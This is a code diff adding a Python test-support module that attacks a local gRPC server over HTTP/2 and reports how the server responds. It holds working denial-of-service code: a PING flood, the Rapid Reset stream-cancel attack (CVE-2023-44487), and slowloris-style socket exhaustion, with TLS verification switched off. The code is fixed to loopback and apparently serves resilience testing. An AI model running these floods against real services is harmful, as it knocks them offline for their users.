@@ -1,0 +1,169 @@
+"""What a hostile client does to a gRPC port, in bytes of its own; loopback only.
+
+Run as a program: `python -m support.hostile_http2 ATTACK PORT`; prints JSON: what was sent, and
+whether and how the server ended it.
+"""
+
+import contextlib
+import errno
+import json
+import resource
+import select
+import socket
+import ssl
+import struct
+import sys
+import time
+from collections import Counter
+from collections.abc import Iterator
+
+HOST = "127.0.0.1"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
+END_HEADERS, ACK = 4, 1
+CANCEL = 8
+SLOW, IDLE = 1_800, 200  # sockets that say nothing or half a hello; that shake hands and stop
+PINGS, RESETS = 20_000, 5_000
+WAIT_S = 45.0
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def headers(stream: int) -> bytes:
+    """A call of the session; each field literal and not indexed (RFC 7541, 6.2.2)."""
+    fields = {
+        ":method": "POST",
+        ":scheme": "https",
+        ":path": "/heliograph.v1.Intake/Session",
+        ":authority": "heliograph-collector",
+        "content-type": "application/grpc",
+        "te": "trailers",
+    }
+    block = b"".join(
+        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+        for name, value in fields.items()
+    )
+    return frame(HEADERS, END_HEADERS, stream, block)
+
+
+def secured(line: socket.socket) -> ssl.SSLSocket:
+    """Whoever attacks does not look whom."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    return context.wrap_socket(line, server_hostname="heliograph-collector")
+
+
+def opened(port: int) -> ssl.SSLSocket:
+    """A connection on which HTTP/2 has begun."""
+    line = secured(socket.create_connection((HOST, port), timeout=20))
+    line.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    return line
+
+
+def flood(port: int, pieces: Iterator[bytes]) -> dict[str, object]:
+    """Send all, reading along, and say how the server took it."""
+    line, sent, heard = opened(port), 0, bytearray()
+    with contextlib.suppress(OSError):
+        for piece in pieces:
+            line.settimeout(5)
+            line.sendall(piece)
+            sent += 1
+            while select.select([line], [], [], 0)[0] or line.pending():
+                more = line.recv(65_536)
+                heard += more
+                if not more:
+                    raise ConnectionResetError
+        line.settimeout(5)
+        while more := line.recv(65_536):
+            heard += more
+    kinds, why = read_frames(bytes(heard))
+    line.close()
+    return {"sent": sent, "frames": kinds, "goaway": why}
+
+
+def read_frames(heard: bytes) -> tuple[dict[int, int], list[str]]:
+    """How many of each kind, and what was said in farewell."""
+    kinds: Counter[int] = Counter()
+    why = []
+    while len(heard) >= 9:
+        length, kind = int.from_bytes(heard[:3], "big"), heard[3]
+        payload, heard = heard[9 : 9 + length], heard[9 + length :]
+        kinds[kind] += 1
+        if kind == GOAWAY:
+            code = int.from_bytes(payload[4:8], "big")
+            why.append(f"{code} {payload[8:].decode(errors='replace')}")
+    return dict(kinds), why
+
+
+def pings(port: int) -> dict[str, object]:
+    return flood(port, (frame(PING, 0, 0, bytes(8)) * 10 for _ in range(PINGS // 10)))
+
+
+def resets(port: int) -> dict[str, object]:
+    """CVE-2023-44487: open and cancel, so that no bound on open streams is ever met."""
+    cancel = struct.pack(">I", CANCEL)
+    pieces = (
+        headers(stream) + frame(RST_STREAM, 0, stream, cancel) for stream in range(1, 2 * RESETS, 2)
+    )
+    return flood(port, pieces)
+
+
+def slow(port: int) -> dict[str, object]:
+    """Sockets that keep a place and say nothing, until the server has closed them all."""
+    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    lines, refused = [], 0
+    for number in range(SLOW):
+        try:
+            line = socket.create_connection((HOST, port), timeout=20)
+            if number % 2:
+                line.sendall(b"\x16\x03\x01\x02\x00\x01")  # a ClientHello begins
+            lines.append(line)
+        except OSError:
+            refused += 1
+    idle = 0
+    for _ in range(IDLE):
+        with contextlib.suppress(OSError):
+            lines.append(opened(port))
+            idle += 1
+    print(json.dumps({"open": len(lines)}), flush=True)
+    began = time.monotonic()
+    closed = until_closed([*lines])
+    return {"asked": SLOW + IDLE, "refused": refused, "idle": idle, "closed": closed,
+            "of": len(lines), "within_s": round(time.monotonic() - began, 1)}  # fmt: skip
+
+
+def until_closed(lines: list[socket.socket]) -> int:
+    """How many the server closed in time."""
+    poll, left = select.poll(), {}
+    for line in lines:
+        line.setblocking(False)
+        poll.register(line, select.POLLIN | select.POLLHUP)
+        left[line.fileno()] = line
+    count, end = len(left), time.monotonic() + WAIT_S
+    while left and time.monotonic() < end:
+        for number, _ in poll.poll(1_000):
+            if is_closed(left[number]):
+                poll.unregister(number)
+                left.pop(number).close()
+    return count - len(left)
+
+
+def is_closed(line: socket.socket) -> bool:
+    try:
+        while line.recv(65_536):
+            pass
+    except (ssl.SSLWantReadError, BlockingIOError):
+        return False
+    except OSError as error:
+        return error.errno != errno.EAGAIN
+    return True
+
+
+ATTACKS = {"slow": slow, "pings": pings, "resets": resets}
+
+if __name__ == "__main__":
+    print(json.dumps(ATTACKS[sys.argv[1]](int(sys.argv[2]))))
